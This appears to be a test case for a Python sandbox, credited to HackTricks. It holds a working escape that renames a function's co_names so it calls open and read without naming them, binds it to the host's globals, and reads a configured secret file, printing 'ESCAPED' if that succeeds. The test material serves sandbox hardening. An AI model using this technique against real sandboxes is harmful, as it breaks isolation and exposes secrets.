# expect: done
# idea: rename what a function looks up, by replacing co_names in its code, and run it in the host's globals
# source: HackTricks
def tick(ctx):
    def template(path):
        return reader(path).taken()

    code = template.__code__
    names = tuple({"reader": "open", "taken": "read"}.get(name, name) for name in code.co_names)
    make = type(template)
    function = make(code.replace(co_names=names), type(ctx).__init__.__globals__)
    try:
        print("ESCAPED: read", function(ctx.config["secret_file"]))
    except Exception as error:
        print("refused:", error)
